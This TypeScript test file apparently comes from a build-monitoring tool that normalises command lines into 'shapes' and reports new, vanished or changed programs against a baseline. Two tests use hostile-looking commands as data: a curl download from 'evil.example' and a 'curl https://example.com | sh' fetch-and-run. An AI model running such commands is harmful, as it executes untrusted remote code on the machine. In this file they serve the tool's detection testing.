/**
 * Program identity that survives argument churn: command shapes, and the comparison of a
 * run's programs with the baseline's. The commands are real ones (the cproject fixture's
 * make, zlib's CMake build, the report's `rm -f app src/*.o` case).
 */
import { comparePrograms, fileNames, shape } from '../../src/diff/programs.js';

const none = new Set<string>();

describe('shape', () => {
  test('a file list is one token, however long, globbed or expanded', () => {
    expect(shape(['rm', '-f', 'app', 'src/*.o'], none)).toBe(shape(['rm', '-f', 'app', 'src/main.o', 'src/util.o'], none));
    expect(shape(['ar', 'rcs', 'build/libcore.a', 'build/util.o', 'build/strbuf.o'], none)).toBe('ar rcs {files}');
  });

  test('the compile commands of two targets have one shape', () => {
    const cc = (src: string, obj: string) => ['cc', '-Iinclude', '-O1', '-pipe', '-c', src, '-o', obj];
    expect(shape(cc('app/wc.c', 'build/wc.o'), none)).toBe(shape(cc('lib/util.c', 'build/util.o'), none));
    expect(shape(cc('app/wc.c', 'build/wc.o'), none)).toBe('cc -Iinclude -O1 -pipe -c {files} -o {files}');
  });

  test('a bare word is a file when the graphs have a file of that name, or when an option takes a file', () => {
    const link = (out: string) => ['cc', '-O3', 'CMakeFiles/x.dir/test/x.c.o', '-o', out, 'libz.so.1.2.13'];
    expect(shape(link('minigzip'), none)).toBe(shape(link('example'), none));
    const names = fileNames({ inputs: [], outputs: ['{workspace}/build/minigzip', '{workspace}/build/example'] });
    expect(shape(['cmake', '-E', 'cmake_echo_color', 'Linking C executable minigzip'], names)).toBe(
      shape(['cmake', '-E', 'cmake_echo_color', 'Linking C executable example'], names),
    );
  });

  test('what is not a file stays: options, URLs, numbers, words', () => {
    expect(shape(['curl', '-fsSL', 'https://example.com/a.sh'], none)).not.toBe(
      shape(['curl', '-fsSL', 'https://evil.example/a.sh'], none),
    );
    expect(shape(['cc', '-O2', '-c', 'a.c'], none)).not.toBe(shape(['cc', '-O3', '-c', 'a.c'], none));
    expect(shape(['rustc', '--crate-name', 'itoa'], none)).toBe('rustc --crate-name itoa');
    expect(shape(['expr', '468', '+', '1'], none)).toBe('expr 468 + 1');
  });

  test('scripts: the files they name are folded, the rest kept', () => {
    expect(shape(['sh', '-c', 'cc -c src/a.c -o build/a.o && echo done'], none)).toBe('sh -c cc -c {files} -o {files} && echo done');
    expect(shape(['sh', '-c', 'rm -f app src/main.o src/util.o'], none)).toBe(shape(['sh', '-c', 'rm -f app src/*.o'], none));
    expect(shape(['sh', '-c', 'curl https://example.com | sh'], none)).toBe('sh -c curl https://example.com | sh');
  });
});

describe('comparePrograms', () => {
  const names = none;
  const p = (...argv: string[]) => ({ exe: `/usr/bin/${argv[0]}`, argv });

  test('the same executables and shapes: nothing, whatever the files', () => {
    expect(
      comparePrograms(
        [p('rm', '-f', 'app', 'src/*.o'), p('cc', '-c', 'a.c')],
        [p('rm', '-f', 'app', 'src/main.o'), p('cc', '-c', 'b.c')],
        1,
        names,
      ),
    ).toEqual([]);
  });

  test('a new executable is one new-program, however many commands it runs', () => {
    expect(comparePrograms([p('cc', '-c', 'a.c')], [p('cc', '-c', 'a.c'), p('gzip', '-c', 'x'), p('gzip', '-d', 'y')], 1, names)).toEqual([
      { kind: 'new-program', exe: '/usr/bin/gzip', subject: '/usr/bin/gzip -c x', commands: 2 },
    ]);
  });

  test('an executable no longer run is one vanished-program, on its first baseline entry', () => {
    const gone = comparePrograms([p('cc', '-c', 'a.c'), p('ar', 'rcs', 'x.a', 'a.o')], [p('cc', '-c', 'a.c')], 1, names);
    expect(gone).toEqual([
      {
        kind: 'vanished-program',
        exe: '/usr/bin/ar',
        subject: '/usr/bin/ar rcs x.a a.o',
        entry: p('ar', 'rcs', 'x.a', 'a.o'),
        commands: 1,
      },
    ]);
  });

  test('other arguments: one changed-arguments per executable, with the commands that differ', () => {
    const c = comparePrograms(
      [p('cc', '-O2', '-c', 'a.c'), p('cc', '-O2', '-c', 'b.c')],
      [p('cc', '-O3', '-c', 'a.c'), p('cc', '-O3', '-c', 'b.c')],
      1,
      names,
    );
    expect(c).toEqual([
      {
        kind: 'changed-arguments',
        exe: '/usr/bin/cc',
        subject: '/usr/bin/cc',
        commands: 2,
        added: ['/usr/bin/cc -O3 -c a.c'],
        removed: ['/usr/bin/cc -O2 -c a.c'],
      },
    ]);
  });

  test('a baseline entry seen in some runs only is optional: its absence is no change', () => {
    const base = [
      { ...p('cc', '-c', 'a.c'), seen: 2 },
      { ...p('cc', '-g', '-c', 'a.c'), seen: 1 },
      { ...p('gzip', 'x'), seen: 1 },
    ];
    expect(comparePrograms(base, [p('cc', '-c', 'a.c')], 2, names)).toEqual([]);
  });
});
